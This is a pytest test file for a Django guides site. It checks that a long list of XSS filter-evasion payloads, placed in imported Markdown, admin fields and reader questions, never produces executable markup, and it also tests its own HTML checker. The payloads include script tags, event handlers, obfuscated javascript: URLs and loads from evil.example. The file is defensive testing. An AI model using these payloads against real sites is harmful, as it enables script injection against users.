"""Script injection: hostile text in every place content comes from never runs on a page.

Each vector of a classic XSS filter-evasion list goes into the Markdown files the import
reads (intro, steps, closing, company about text and name, contacts, front matter), into
what an editor saves in the admin, and into a reader's question and an editor's answer.
Every page that shows it is then parsed, and may hold no script but the site's own, no
event handler, no script URL, no frame, object, base, refresh, import, foreign form or style.
"""

import json
import re
import textwrap
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from io import StringIO

import pytest
import yaml
from django.core.management import call_command
from django.utils import timezone
from django.utils.text import slugify

from guides_site.guides.models import Company, Guide, Tag
from guides_site.questions.models import Question

from .factories import make_guide, write_tree
from .html_safety import SCRIPT_SCHEMES, URL_ATTRIBUTES

pytestmark = pytest.mark.django_db

V = pytest.param
VECTORS = [
    V("<script>alert(1)</script>", id="script"),
    V("<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>", id="script-src-uppercase"),
    V("<script src=//evil.example/x.js></script>", id="script-src-protocol-relative"),
    V("<script>window.__xss = 1</script>", id="script-sets-flag"),
    V("<img src=x onerror=alert(1)>", id="img-onerror"),
    V('<IMG SRC=x ONERROR="window.__xss=1">', id="img-onerror-uppercase"),
    V("<img src=x onerror=alert(1)//", id="img-unclosed"),
    V("<svg onload=alert(1)>", id="svg-onload"),
    V("'><svg/onload=alert(1)>", id="svg-slash-onload"),
    V("<svg><script>alert(1)</script></svg>", id="svg-script"),
    V(
        '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
        id="svg-xlink-href",
    ),
    V("[click](javascript:alert(1))", id="md-link-javascript"),
    V("[click](JaVaScRiPt:alert(1))", id="md-link-mixed-case"),
    V("[click](java&#x09;script:alert(1))", id="md-link-tab-entity"),
    V("[click](&#106;avascript:alert(1))", id="md-link-decimal-entity"),
    V("[click](javascript&colon;alert(1))", id="md-link-colon-entity"),
    V("[click]( javascript:alert(1) )", id="md-link-spaces"),
    V('[click](javascript:alert(1) "title")', id="md-link-with-title"),
    V("<javascript:alert(1)>", id="md-autolink"),
    V("<JAVASCRIPT:alert(1)>", id="md-autolink-uppercase"),
    V("[click][evil]\n\n[evil]: javascript:alert(1)", id="md-reference-link"),
    V("![x](javascript:alert(1))", id="md-image-javascript"),
    V('![x](x "onerror=alert(1)")', id="md-image-title-handler"),
    V('![x" onerror="alert(1)](x)', id="md-image-alt-breakout"),
    V("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", id="md-link-data"),
    V("![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", id="md-image-data-svg"),
    V(
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        id="a-href-data",
    ),
    V('<a href="javascript:alert(1)">x</a>', id="a-href-javascript"),
    V("<a href='javascript:window.__xss=1'>x</a>", id="a-href-javascript-flag"),
    V("<a href=javascript:alert(1)>x</a>", id="a-href-unquoted"),
    V('<a href="vbscript:msgbox(1)">x</a>', id="a-href-vbscript"),
    V(
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;'
        '&#x70;&#x74;&#x3A;alert(1)">x</a>',
        id="a-href-hex-entities",
    ),
    V(
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
        '&#0000112&#0000116&#0000058alert(1)">x</a>',
        id="a-href-padded-entities",
    ),
    V('<a href="jav&#x0A;ascript:alert(1)">x</a>', id="a-href-newline-entity"),
    V('<a href="\x01javascript:alert(1)">x</a>', id="a-href-control-character"),
    V('<a href="https://ok.example" onclick="alert(1)">ok</a>', id="a-onclick"),
    V(
        '<a href="#" onmouseover="alert(1)" style="position:fixed;inset:0">x</a>',
        id="a-overlay-onmouseover",
    ),
    V('<iframe src="javascript:alert(1)"></iframe>', id="iframe-javascript"),
    V('<iframe srcdoc="<script>alert(1)</script>"></iframe>', id="iframe-srcdoc"),
    V('<object data="javascript:alert(1)"></object>', id="object"),
    V('<embed src="javascript:alert(1)">', id="embed"),
    V('<form action="javascript:alert(1)"><button>go</button></form>', id="form-action"),
    V('<button formaction="javascript:alert(1)">go</button>', id="button-formaction"),
    V('<input autofocus onfocus="alert(1)">', id="input-autofocus"),
    V('<math><mi xlink:href="javascript:alert(1)">x</mi></math>', id="math-xlink-href"),
    V(
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction>'
        "</math>",
        id="math-maction",
    ),
    V("<details open ontoggle=alert(1)>", id="details-ontoggle"),
    V("<body onload=alert(1)>", id="body-onload"),
    V("<marquee onstart=alert(1)>x</marquee>", id="marquee-onstart"),
    V("<video><source onerror=alert(1)></video>", id="video-source-onerror"),
    V("<audio src=x onerror=alert(1)>", id="audio-onerror"),
    V("<style>@import 'https://evil.example/x.css';</style>", id="style-import"),
    V('<div style="background:url(javascript:alert(1))">x</div>', id="style-url-javascript"),
    V('<p style="width:expression(alert(1))">x</p>', id="style-expression"),
    V('<table background="javascript:alert(1)"><tr><td>x</td></tr></table>', id="table-background"),
    V(
        '<blockquote cite="javascript:alert(1)">x</blockquote><q cite="javascript:alert(1)">x</q>',
        id="cite-javascript",
    ),
    V("<<script>script>alert(1)<</script>/script>", id="nested-script"),
    V("<scr<script>ipt>alert(1)</scr</script>ipt>", id="split-script"),
    V("%3Cscript%3Ealert(1)%3C/script%3E", id="percent-encoded"),
    V('<img """><script>alert(1)</script>">', id="img-quotes-script"),
    V("<script>alert(1)", id="script-unclosed"),
    V('"><script>alert(1)</script>', id="attribute-breakout"),
    V("</script><script>alert(1)</script>", id="close-script-first"),
    V("</textarea><script>alert(1)</script>", id="close-textarea-first"),
    V("</title><script>alert(1)</script>", id="close-title-first"),
    V("<!-- <script>alert(1)</script> -->", id="comment-script"),
    V("<!--<img src=x onerror=alert(1)>-->", id="comment-img"),
    V("<!--> <img src=x onerror=alert(1)> -->", id="comment-abrupt"),
    V("<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", id="conditional-comment"),
    V(
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        id="noscript-mutation",
    ),
    V("<xmp><script>alert(1)</script></xmp>", id="xmp"),
    V("<template><script>alert(1)</script></template>", id="template"),
    V('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', id="meta-refresh"),
    V('<base href="javascript:alert(1)//">', id="base-href"),
    V('<link rel=import href="https://evil.example/x.html">', id="link-import"),
    V('<link rel=stylesheet href="https://evil.example/x.css">', id="link-stylesheet"),
    V('<div hx-get="/admin/" hx-trigger="load">x</div>', id="htmx-get"),
    V('<a hx-on:click="alert(1)" hx-on::load="alert(1)">x</a>', id="htmx-on"),
    V('<img src=x data-hx-on:error="alert(1)">', id="htmx-data-on"),
    V('<a id="htmx" name="htmx">clobber</a><form id="csrf"></form>', id="dom-clobbering"),
    V("{{ 7*7 }} {% debug %} {{ request.COOKIES }} ${alert(1)} #{alert(1)}", id="template-syntax"),
    V("```\n<script>alert(1)</script>\n```", id="fenced-code"),
    V("`<script>alert(1)</script>`", id="inline-code"),
]
VECTOR_TEXTS = [param.values[0] for param in VECTORS]

# --- The page check --------------------------------------------------------------------------

# Elements no page of the site has, whoever asks for them.
NEVER = {
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "style",
    "portal",
    "svg",
    "math",
    "template",
    "noscript",
    "xmp",
    "plaintext",
    "isindex",
    "marquee",
    "video",
    "audio",
    "source",
    "track",
    "canvas",
    "dialog",
}
# Elements of the page itself that content may never add.
NOT_IN_CONTENT = {
    "script",
    "link",
    "meta",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "option",
    "label",
    "title",
    "head",
    "body",
    "html",
}
# Attributes content may carry (what nh3 keeps, plus the rel it adds to links).
CONTENT_ATTRIBUTES = {
    "href",
    "src",
    "alt",
    "title",
    "rel",
    "width",
    "height",
    "align",
    "lang",
    "hreflang",
    "start",
    "colspan",
    "rowspan",
    "scope",
    "headers",
    "cite",
    "datetime",
    "abbr",
    "char",
    "charoff",
    "span",
    "summary",
    "dir",
    "size",
}
SITE_LINK_RELS = {"canonical", "alternate", "icon", "stylesheet"}
SITE_META = {
    "charset",
    "viewport",
    "description",
    "theme-color",
    "color-scheme",
    "htmx-config",
    "og:site_name",
    "og:title",
    "og:description",
    "og:url",
    "og:type",
    "og:locale",
}
VOID = {
    "area",
    "base",
    "br",
    "col",
    "embed",
    "hr",
    "img",
    "input",
    "link",
    "meta",
    "source",
    "track",
    "wbr",
    "param",
    "keygen",
}


def is_script_url(value):
    """Whether a browser would run this URL: after entities (already decoded by the parser),
    any whitespace or control character, and letter case."""
    cleaned = "".join(ch for ch in value if ord(ch) > 0x20 and not 0x7F <= ord(ch) <= 0x9F)
    return cleaned.lower().startswith(SCRIPT_SCHEMES)


def is_site_path(url):
    return url.startswith("/") and not url.startswith("//") and not is_script_url(url)


class Page(HTMLParser):
    """The elements of a page, each marked as content (inside a .prose block) or not."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.elements = []  # (tag, [(name, value)], in_content)
        self.scripts = []  # [attrs as dict, text]
        self.comments = []  # (text, in_content)
        self._open = []  # (tag, opens content)
        self._content_depth = 0
        self._script = None
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self._element(tag, attrs)
        if tag not in VOID:
            opens = "prose" in (dict(attrs).get("class") or "").split()
            self._open.append((tag, opens))
            self._content_depth += opens

    def handle_startendtag(self, tag, attrs):
        self._element(tag, attrs)

    def _element(self, tag, attrs):
        attrs = [(name, value or "") for name, value in attrs]
        self.elements.append((tag, attrs, self._content_depth > 0))
        if tag == "script":
            self._script = [dict(attrs), []]
            self.scripts.append(self._script)

    def handle_endtag(self, tag):
        if tag == "script":
            self._script = None
        for index in range(len(self._open) - 1, -1, -1):
            if self._open[index][0] == tag:
                self._content_depth -= sum(opens for _tag, opens in self._open[index:])
                del self._open[index:]
                break

    def handle_data(self, data):
        if self._script is not None:
            self._script[1].append(data)

    def handle_comment(self, data):
        self.comments.append((data, self._content_depth > 0))


def script_problems(attrs, text):
    if "src" in attrs:
        if not is_site_path(attrs["src"]) or not attrs["src"].startswith("/static/"):
            return [f"script from {attrs['src']!r}"]
        return ["script with both src and code"] if text.strip() else []
    if attrs.get("type") != "application/ld+json":
        return [f"inline script: {text[:80]!r}"]
    if re.search(r"</script|<!--", text, re.IGNORECASE):
        return [f"JSON-LD that could end its script element: {text[:80]!r}"]
    try:
        json.loads(text)
    except ValueError:
        return [f"JSON-LD that is not JSON: {text[:80]!r}"]
    return []


def element_problems(tag, attrs, in_content):
    where = f"<{tag}>{' in content' if in_content else ''}"
    problems = []
    values = dict(attrs)
    if tag in NEVER:
        problems.append(f"{where} element")
    if in_content and tag in NOT_IN_CONTENT:
        problems.append(f"{where} element")
    if tag == "meta":
        kind = values.get("name") or values.get("property") or ("charset" in values and "charset")
        if "http-equiv" in values or kind not in SITE_META:
            problems.append(f"{where} {attrs}")
    if tag == "link" and (
        values.get("rel") not in SITE_LINK_RELS
        or values.get("rel") in ("icon", "stylesheet")
        and not values.get("href", "").startswith("/static/")
    ):
        problems.append(f"{where} {attrs}")
    if tag == "form" and not is_site_path(values.get("action", "")):
        problems.append(f"{where} with action {values.get('action')!r}")
    for name, value in attrs:
        if name.startswith("on"):
            problems.append(f"{where} with event handler {name}={value!r}")
        elif name == "style":
            problems.append(f"{where} with style={value!r}")
        elif name in URL_ATTRIBUTES:
            urls = [part.strip().split(" ")[0] for part in value.split(",")]
            if is_script_url(value) or "srcset" in name and any(map(is_script_url, urls)):
                problems.append(f"{where} with {name}={value!r}")
        if in_content and name not in CONTENT_ATTRIBUTES:
            problems.append(f"{where} with attribute {name}={value!r}")
    if (
        in_content
        and tag == "a"
        and "href" in values
        and "noopener" not in values.get("rel", "").split()
    ):
        problems.append(f"{where} link without rel=noopener: {attrs}")
    return problems


def executable_markup(html):
    """Everything on a page that could run script or change where the page goes."""
    page = Page(html)
    problems = []
    for tag, attrs, in_content in page.elements:
        problems += element_problems(tag, attrs, in_content)
    for attrs, text in page.scripts:
        problems += script_problems(attrs, "".join(text))
    problems += [
        f"comment in content: {text!r}" for text, in_content in page.comments if in_content
    ]
    # Whatever html.parser made of the page, a browser finds no more of these tags than it
    # did: `<tag` only starts a tag outside text, which Django and nh3 escape.
    for tag in (
        "script",
        "iframe",
        "object",
        "embed",
        "base",
        "style",
        "svg",
        "math",
        "form",
        "meta",
        "link",
        "img",
        "a",
    ):
        raw = len(re.findall(rf"<{tag}[\s/>]", html, re.IGNORECASE))
        parsed = sum(1 for element in page.elements if element[0] == tag)
        in_values = sum(
            len(re.findall(rf"<{tag}[\s/>]", value, re.IGNORECASE))
            for _tag, attrs, _ in page.elements
            for _name, value in attrs
        )
        if raw > parsed + in_values:
            problems.append(f"{raw} <{tag}> in the HTML but {parsed} elements parsed")
    return problems


def assert_safe(response, label=""):
    assert response.status_code == 200, (label, response.status_code)
    html = response.content.decode()
    assert executable_markup(html) == [], label
    return html


def assert_safe_sitemap(client):
    for path in ("/sitemap.xml", "/sitemap-guides.xml", "/sitemap-pages.xml"):
        response = client.get(path)
        assert response.status_code == 200
        # The site's own response, and parsing it well-formed is part of the check.
        sitemap = ET.fromstring(response.content)  # noqa: S314
        locations = [e.text for e in sitemap.iter() if e.tag.endswith("}loc")]
        links = [e.get("href") for e in sitemap.iter() if e.tag.endswith("}link")]
        assert locations
        for url in locations + links:
            assert url.startswith("http://testserver/"), url


# --- The places hostile text goes --------------------------------------------------------------


def indented(text):
    return textwrap.indent(text, "    ", lambda line: True)


def hostile_tree(root, vector):
    """A company and a guide with the vector everywhere the content format allows."""
    one_line = "\n" not in vector
    company = {
        "name": f"Acme {vector}"[:100],
        "website": "https://acme.example",
        "contacts": [
            {
                "kind": "phone",
                "label": vector[:100],
                "value": "+33 1 23 45 67 89",
                "note": vector[:300],
                "cost": vector[:200],
            },
            {"kind": "chat", "label": "Chat", "value": "javascript:alert(1)"},
            {"kind": "help", "value": vector[:300]},
            {"kind": "post", "value": vector[:300]},
        ],
    }
    guide = {
        "title": f"Refund {vector}"[:200],
        "summary": f"Summary {vector}"[:300],
        "author": vector[:100],
        "published": "2020-01-02",
        "tags": ["refund", vector[:60]],
    }
    step_two = f"2. Then MARKER-step-2 {vector}" if one_line else "2. Then MARKER-step-2."
    body = "\n".join(
        [
            f"MARKER-intro\n\n{vector}\n\nMARKER-intro-inline {vector}"
            if one_line
            else f"MARKER-intro\n\n{vector}",
            "",
            f"1. MARKER-step-1\n\n{indented(vector)}",
            "",
            step_two,
            "",
            "3. A plain step.",
            "",
            f"## MARKER-closing\n\n{vector}",
        ]
    )
    return write_tree(
        root,
        {
            "acme/company.md": f"---\n{yaml.safe_dump(company, allow_unicode=True)}---\n"
            f"MARKER-about\n\n{vector}\n",
            "acme/refund.md": f"---\n{yaml.safe_dump(guide, allow_unicode=True)}---\n{body}\n",
        },
    )


def assert_every_page_is_safe(client, guide):
    pages = {
        "home": client.get("/"),
        "company": client.get("/acme/"),
        "guide": client.get("/acme/refund/"),
        "step 1": client.get("/acme/refund/step/1/"),
        "step 2": client.get("/acme/refund/step/2/"),
        "step 1 (htmx)": client.get("/acme/refund/step/1/", headers={"HX-Request": "true"}),
    }
    pages.update(
        {f"tag {tag.slug}": client.get(tag.get_absolute_url()) for tag in guide.tags.all()}
    )
    html = {label: assert_safe(response, label) for label, response in pages.items()}
    assert_safe_sitemap(client)
    return html


@pytest.mark.parametrize("vector", VECTORS)
def test_imported_content_yields_no_executable_markup_on_any_page(client, tmp_path, vector):
    call_command("import_content", str(hostile_tree(tmp_path, vector)), stdout=StringIO())
    guide = Guide.objects.get(slug="refund")

    html = assert_every_page_is_safe(client, guide)

    # The vector was on the pages checked, in each place.
    for marker in ("MARKER-intro", "MARKER-step-1", "MARKER-step-2", "MARKER-closing"):
        assert marker in html["guide"], marker
    assert "MARKER-step-1" in html["step 1"] and "MARKER-step-2" in html["step 2"]
    assert "MARKER-about" in html["company"]
    assert guide.tags.count() == 2


@pytest.mark.parametrize("vector", VECTORS)
def test_content_saved_in_the_admin_yields_no_executable_markup_on_any_page(client, vector):
    guide = make_guide()
    company = guide.company
    company.name = f"Acme {vector}"[:100]
    company.about_md = f"MARKER-about\n\n{vector}"
    company.save()
    guide.title = f"Refund {vector}"[:200]
    guide.summary = vector[:300]
    guide.author = vector[:100]
    guide.intro_md = f"MARKER-intro\n\n{vector}"
    guide.closing_md = f"MARKER-closing\n\n{vector}"
    guide.save()
    for step in guide.steps.all():
        step.body_md = f"MARKER-step-{step.position} {vector}\n\n{vector}"
        step.save()
    name = " ".join(vector[:60].split())
    guide.tags.add(Tag.objects.create(name=name, slug=slugify(name) or "hostile"))

    html = assert_every_page_is_safe(client, guide)

    for marker in ("MARKER-intro", "MARKER-step-1", "MARKER-step-3", "MARKER-closing"):
        assert marker in html["guide"], marker
    assert "MARKER-about" in html["company"]


@pytest.mark.parametrize("vector", VECTORS)
def test_a_hostile_question_and_answer_yield_no_executable_markup(client, vector):
    guide = make_guide()
    text = f"MARKER-question {vector}"[:1000]
    response = client.post("/acme/refund/ask/", {"text": text, "email": "", "website": ""})
    assert response.status_code == 302
    question = Question.objects.get()
    assert "MARKER-question" not in assert_safe(client.get("/acme/refund/"))  # not yet

    question.status = Question.Status.PUBLISHED
    question.answer = f"MARKER-answer {vector}\n\n{vector}"
    question.answered_at = timezone.now()
    question.save()

    html = assert_safe(client.get("/acme/refund/"))
    assert "MARKER-question" in html and "MARKER-answer" in html
    # Kept as the reader typed it: data, not markup.
    qa_pages = [
        json.loads("".join(text))
        for _attrs, text in Page(html).scripts
        if '"QAPage"' in "".join(text)
    ]
    assert qa_pages[0]["mainEntity"][0]["text"] == question.text
    assert qa_pages[0]["mainEntity"][0]["acceptedAnswer"]["text"] == question.answer
    assert guide.questions.published().count() == 1


@pytest.mark.parametrize("vector", VECTORS)
def test_rendered_markdown_alone_has_no_executable_markup(vector):
    from guides_site.content.rendering import render_markdown

    html = render_markdown(vector)

    assert executable_markup(f'<div class="prose">{html}</div>') == []


def test_script_in_code_shows_as_text(client):
    guide = make_guide()
    step = guide.steps.get(position=1)
    step.body_md = "Type `<script>alert(1)</script>` or:\n\n```\n<script>alert(2)</script>\n```"
    step.save()

    html = assert_safe(client.get("/acme/refund/"))

    assert "<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>" in html
    assert "<pre><code>&lt;script&gt;alert(2)&lt;/script&gt;\n</code></pre>" in html


def test_template_syntax_in_content_is_shown_as_written(client):
    guide = make_guide(title="Refund {{ 7*7 }}")
    guide.intro_md = "Totals: {{ 7*7 }} {% now 'Y' %} {{ request.COOKIES }}"
    guide.save()

    html = assert_safe(client.get("/acme/refund/"))

    assert "<p>Totals: {{ 7*7 }} {% now 'Y' %} {{ request.COOKIES }}</p>" in html
    assert '<h1 id="guide-title">Refund {{ 7*7 }}</h1>' in html


def test_a_safe_link_in_content_keeps_its_address_and_gets_rel_noopener(client):
    guide = make_guide()
    guide.intro_md = "See [the help page](https://acme.example/help) or [ours](/about/)."
    guide.save()

    html = assert_safe(client.get("/acme/refund/"))

    assert '<a href="https://acme.example/help" rel="noopener noreferrer">the help page</a>' in html
    assert '<a href="/about/" rel="noopener noreferrer">ours</a>' in html


def test_a_chat_contact_with_a_script_address_is_shown_as_text_not_a_link(client, tmp_path):
    call_command("import_content", str(hostile_tree(tmp_path, "x")), stdout=StringIO())

    html = assert_safe(client.get("/acme/"))

    assert "<span>javascript:alert(1)</span>" in html
    assert Company.objects.get().contacts.filter(kind="chat").get().href == ""


@pytest.mark.parametrize(
    "html, problem",
    [
        ("<script>alert(1)</script>", "inline script: 'alert(1)'"),
        ('<script src="https://evil.example/x.js"></script>', "script from"),
        ('<script type="application/ld+json">{"a": "</script>"}</script>', "JSON-LD"),
        ("<img src=x onerror=alert(1)>", "with event handler onerror='alert(1)'"),
        ('<a href=" JaVa\tScRiPt:alert(1)">x</a>', "with href="),
        ('<a href="&#x6A;avascript:alert(1)">x</a>', "with href="),
        ('<img src="data:image/png;base64,AAAA">', "with src="),
        ('<form action="javascript:alert(1)"></form>', "<form> with action"),
        ('<form action="https://evil.example/"></form>', "<form> with action"),
        ("<iframe></iframe>", "<iframe> element"),
        ('<meta http-equiv="refresh" content="0;url=/">', "<meta>"),
        ('<link rel="import" href="/x">', "<link>"),
        ('<p style="color:red">x</p>', "with style="),
        ("<style>p{}</style>", "<style> element"),
        ('<div class="prose"><a id="x" href="/">x</a></div>', "with attribute id='x'"),
        ('<div class="prose"><p hx-get="/admin/">x</p></div>', "with attribute hx-get="),
        ('<div class="prose"><form action="/"></form></div>', "<form> in content element"),
        ('<div class="prose"><!-- x --></div>', "comment in content"),
        ('<div class="prose"><a href="https://a.example">x</a></div>', "without rel=noopener"),
        ("<!--> <script>alert(1)</script> -->", "<script> in the HTML"),
    ],
)
def test_the_page_check_finds_each_kind_of_executable_markup(html, problem):
    problems = executable_markup(html)

    assert any(problem in found for found in problems), problems


def test_the_page_check_accepts_the_sites_own_scripts_forms_and_links(client):
    make_guide()

    html = client.get("/acme/refund/").content.decode()

    page = Page(html)
    assert executable_markup(html) == []
    sources = {attrs.get("src") for attrs, _text in page.scripts}
    assert "/static/js/site.js" in sources and any("htmx" in (s or "") for s in sources)
    assert sum(attrs.get("type") == "application/ld+json" for attrs, _ in page.scripts) >= 2
    assert any(tag == "form" for tag, _attrs, _ in page.elements)


def test_no_content_attribute_holds_a_script_url_not_even_an_inert_cite():
    # nh3's defaults keep any URL in cite, javascript: included; browsers never follow it,
    # and rendering.py drops the attribute.
    from guides_site.content.rendering import render_markdown

    html = render_markdown(
        '<blockquote cite="javascript:alert(1)">quoted</blockquote> '
        '<q cite="javascript:alert(1)">q</q> <del cite="javascript:x">d</del>'
    )

    assert html == "<blockquote>quoted</blockquote>\n<p><q>q</q> <del>d</del></p>"
